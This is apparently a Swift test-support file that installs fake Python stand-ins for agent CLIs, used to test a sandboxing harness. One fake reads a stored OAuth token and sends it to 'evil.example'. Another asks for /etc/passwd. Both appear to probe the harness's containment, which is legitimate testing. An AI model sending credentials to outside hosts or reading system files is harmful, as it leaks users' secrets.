internal import FerrySystem
package import SystemPackage

/// Small working stand-ins for agent programs of others: they speak the programs' own formats, ask their model over HTTP, and carry out its calls of `write`
/// and `bash`. A call of `finish` is their report. They write their sessions down and resume them, as the real ones do; what they say and how they are started
/// is held against the real ones by `.scripts/e2e-agents`.
package enum FakeAgents {
    /// Puts `claude`, `codex`, `acp-agent`, and `claude-lent`, which works with a login of its own, into `bin` of a folder.
    package static func install(in folder: FilePath) throws {
        let programs = ["claude": common + claude, "codex": common + codex, "acp-agent": acp, "claude-lent": lent]
        try Directory.create(folder.appending("bin"))
        for (name, text) in programs {
            try FileContents.write(Array(text.utf8), to: folder.appending("bin").appending(name), mode: 0o755)
        }
    }

    /// Runs a call, and what both share.
    private static let common = #"""
        #!/usr/bin/python3
        import json, os, subprocess, sys, urllib.error, urllib.request

        def say(**line): print(json.dumps(line), flush=True)

        def run(name, given):
            if name == "write":
                path = os.path.join("/work", given["path"])
                os.makedirs(os.path.dirname(path), exist_ok=True)
                open(path, "w").write(given["content"])
                return "written"
            done = subprocess.run(["/bin/sh", "-c", given.get("command", "false")], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
            return done.stdout or "done"

        def stream(url, headers, body):
            """The events of an answer."""
            headers = {"content-type": "application/json", "accept": "text/event-stream", **headers}
            request = urllib.request.Request(url, json.dumps(body).encode(), headers)
            with urllib.request.urlopen(request) as answer:
                for line in answer:
                    if line.startswith(b"data: {"): yield json.loads(line[6:])

        def session(folder, name):
            """Where a conversation is written down, and what is there of it."""
            path = os.path.join(os.environ["HOME"], folder, name + ".json")
            os.makedirs(os.path.dirname(path), exist_ok=True)
            return path, json.load(open(path)) if os.path.exists(path) else []

        def keep(path, items):
            open(path + ".new", "w").write(json.dumps(items))
            os.rename(path + ".new", path)

        SCHEMAS = {"write": ["path", "content"], "bash": ["command"]}
        def schema(names):
            return {"type": "object", "properties": {n: {"type": "string"} for n in names}, "required": names, "additionalProperties": False}

        """#

    private static let claude = #"""
        def option(name): return sys.argv[sys.argv.index(name) + 1]
        assert "-p" in sys.argv and option("--output-format") == "stream-json" and "--verbose" in sys.argv
        report = json.loads(option("--json-schema"))
        system = open(option("--append-system-prompt-file")).read()
        base, token, model = os.environ["ANTHROPIC_BASE_URL"], os.environ["ANTHROPIC_AUTH_TOKEN"], option("--model")
        tools = [{"name": n, "description": n, "input_schema": schema(p)} for n, p in SCHEMAS.items()]
        tools.append({"name": "finish", "description": "The report", "input_schema": report})
        resumes = "--resume" in sys.argv
        name = option("--resume" if resumes else "--session-id")
        path, messages = session(".claude/projects/-work", name)
        if resumes and not messages:
            say(type="result", subtype="error_during_execution", is_error=True, result="No conversation found with session ID: " + name)
            sys.exit(1)
        text = {"type": "text", "text": sys.stdin.read()}
        if messages: messages[-1]["content"].append(text)
        else: messages.append({"role": "user", "content": [text]})
        say(type="system", subtype="init", session_id=name, model=model, tools=list(SCHEMAS))

        def ask():
            body = {"model": model, "max_tokens": 1000, "stream": True, "system": [{"type": "text", "text": system}], "messages": messages, "tools": tools}
            blocks = []
            for event in stream(base + "/v1/messages?beta=true", {"authorization": "Bearer " + token, "anthropic-version": "2026-10-21"}, body):
                if event["type"] == "content_block_start": blocks.append({**event["content_block"], "json": ""})
                elif event["type"] == "content_block_delta":
                    delta = event["delta"]
                    if delta["type"] == "text_delta": blocks[-1]["text"] += delta["text"]
                    if delta["type"] == "input_json_delta": blocks[-1]["json"] += delta["partial_json"]
                elif event["type"] == "error": raise SystemExit(event["error"]["message"])
            for block in blocks:
                text = block.pop("json")
                if block["type"] == "tool_use": block["input"] = json.loads(text or "{}")
            return [b for b in blocks if b["type"] != "text" or b["text"]]

        try:
            while True:
                keep(path, messages)
                blocks = ask()
                for block in blocks: say(type="assistant", message={"role": "assistant", "content": [block]})
                messages.append({"role": "assistant", "content": blocks})
                calls = [b for b in blocks if b["type"] == "tool_use"]
                final = next((c["input"] for c in calls if c["name"] == "finish"), None)
                if final is not None or not calls: break
                results = [{"type": "tool_result", "tool_use_id": c["id"], "content": run(c["name"], c["input"])} for c in calls]
                say(type="user", message={"role": "user", "content": results})
                messages.append({"role": "user", "content": results})
        except urllib.error.HTTPError as error:
            say(type="result", subtype="success", is_error=True, result="API Error: %d %s" % (error.code, error.read().decode()))
            sys.exit(1)
        say(type="result", subtype="success", is_error=False, result="done", structured_output=final)
        """#

    /// Shows its login to every host that it knows of, tells what it saw, and writes a file.
    private static let lent = #"""
        #!/usr/bin/python3
        import json, os, sys, urllib.error, urllib.request
        def say(**line): print(json.dumps(line), flush=True)
        assert "ANTHROPIC_BASE_URL" not in os.environ and "ANTHROPIC_AUTH_TOKEN" not in os.environ
        path = os.path.expanduser("~/.claude/.credentials.json")
        token = json.load(open(path))["claudeAiOauth"]["accessToken"]
        seen = "token " + token
        for host in ["api.anthropic.com", "evil.example"]:
            try: seen += " %s %d" % (host, urllib.request.urlopen(urllib.request.Request("http://%s/" % host, headers={"authorization": "Bearer " + token})).status)
            except urllib.error.HTTPError as error: seen += " %s %d" % (host, error.code)
        try: open(path, "w")
        except OSError as error: seen += " " + type(error).__name__
        open("/work/bye.txt", "w").write("bye\n")
        say(type="system", subtype="init", session_id="s")
        say(type="assistant", message={"role": "assistant", "content": [{"type": "text", "text": seen}]})
        say(type="result", subtype="success", is_error=False, result="done", structured_output={"summary": "It is done.", "answers": [], "questions": []})
        """#

    private static let codex = #"""
        arguments = sys.argv[1:]
        assert arguments[0] == "exec" and "--json" in arguments and arguments[-1] == "-"
        thread = arguments[-2] if arguments[-3] == "resume" else "01a216b0-0278-7431-89b3-%012x" % int.from_bytes(os.urandom(6), "big")
        path, items = session(".codex/sessions", thread)
        if arguments[-3] == "resume" and not items:
            sys.exit("Error: thread/resume: no rollout found for thread id " + thread)
        settings = dict(arguments[i + 1].split("=", 1) for i, a in enumerate(arguments) if a == "-c")
        base = json.loads(settings["model_providers.ferry.base_url"])
        token = os.environ[json.loads(settings["model_providers.ferry.env_key"])]
        assert json.loads(settings["model_providers.ferry.wire_api"]) == "responses"
        model = arguments[arguments.index("-m") + 1]
        report = json.load(open(arguments[arguments.index("--output-schema") + 1]))
        tools = [{"type": "function", "name": n, "parameters": schema(p), "strict": True} for n, p in SCHEMAS.items()]
        tools.append({"type": "function", "name": "finish", "parameters": report, "strict": True})
        items.append({"type": "message", "role": "user", "content": [{"type": "input_text", "text": sys.stdin.read()}]})
        say(type="thread.started", thread_id=thread)
        say(type="turn.started")
        try:
            while True:
                keep(path, items)
                body = {"model": model, "input": items, "tools": tools, "stream": True, "store": False}
                new = []
                for event in stream(base + "/responses", {"authorization": "Bearer " + token}, body):
                    if event["type"] == "response.output_item.done": new.append(event["item"])
                calls = [i for i in new if i["type"] == "function_call"]
                items += [{k: i[k] for k in ("type", "call_id", "name", "arguments")} for i in calls]
                final = next((c["arguments"] for c in calls if c["name"] == "finish"), None)
                if final is not None or not calls: break
                for call in calls:
                    given = json.loads(call["arguments"])
                    output = run(call["name"], given)
                    items.append({"type": "function_call_output", "call_id": call["call_id"], "output": output})
                    say(type="item.completed", item={"id": call["call_id"], "type": "command_execution", "command": given.get("command", call["name"]),
                        "aggregated_output": output, "exit_code": 0, "status": "completed"})
        except urllib.error.HTTPError as error:
            say(type="error", message="Reconnecting... 1/5")
            say(type="turn.failed", error={"message": "%d %s" % (error.code, error.read().decode())})
            sys.exit(1)
        say(type="item.completed", item={"id": "last", "type": "agent_message", "text": final or "nothing to say"})
        say(type="turn.completed", usage={"input_tokens": 1, "cached_input_tokens": 0, "output_tokens": 1})
        """#

    /// Asks for permission before it writes the file that its arguments name; its last words are the permission's outcome, or `FAKE_REPORT`.
    private static let acp = #"""
        #!/usr/bin/python3
        import json, os, sys

        def send(**message): print(json.dumps({"jsonrpc": "2.0", **message}), flush=True)

        def receive():
            line = sys.stdin.readline()
            if not line: sys.exit(0)
            return json.loads(line)

        def update(**what): send(method="session/update", params={"sessionId": "s1", "update": what})

        request = receive()
        assert request["method"] == "initialize" and request["params"]["protocolVersion"] == 1
        send(id=request["id"], result={"protocolVersion": 1, "agentCapabilities": {}, "authMethods": []})
        request = receive()
        assert request["method"] == "session/new" and request["params"]["cwd"] == "/work" and request["params"]["mcpServers"] == []
        send(id=request["id"], result={"sessionId": "s1"})
        request = receive()
        assert request["method"] == "session/prompt" and request["params"]["prompt"][0]["type"] == "text"
        update(sessionUpdate="agent_message_chunk", content={"type": "text", "text": "I begin."})
        update(sessionUpdate="tool_call", toolCallId="c1", title="Write " + sys.argv[1], kind="edit", status="pending")
        # Its ids are another space than the client's.
        send(id=0, method="session/request_permission", params={"sessionId": "s1", "toolCall": {"toolCallId": "c1", "kind": "edit"}, "options": [
            {"optionId": "always", "name": "Always", "kind": "allow_always"}, {"optionId": "once", "name": "Once", "kind": "allow_once"},
            {"optionId": "no", "name": "No", "kind": "reject_once"}]})
        answer = receive()["result"]["outcome"]
        send(id=1, method="fs/read_text_file", params={"sessionId": "s1", "path": "/etc/passwd"})
        assert receive()["error"]["code"] == -32601
        if answer == {"outcome": "selected", "optionId": "once"}:
            os.makedirs(os.path.dirname(os.path.abspath(sys.argv[1])), exist_ok=True)
            open(sys.argv[1], "w").write(sys.argv[2])
        update(sessionUpdate="tool_call_update", toolCallId="c1", status="completed")
        for piece in (os.environ.get("FAKE_REPORT") or json.dumps(answer)).split(" "):
            update(sessionUpdate="agent_message_chunk", content={"type": "text", "text": piece + " "})
        send(id=request["id"], result={"stopReason": "end_turn"})
        if "stay" in sys.argv:
            while True: receive()
        sys.stdin.read()
        """#
}
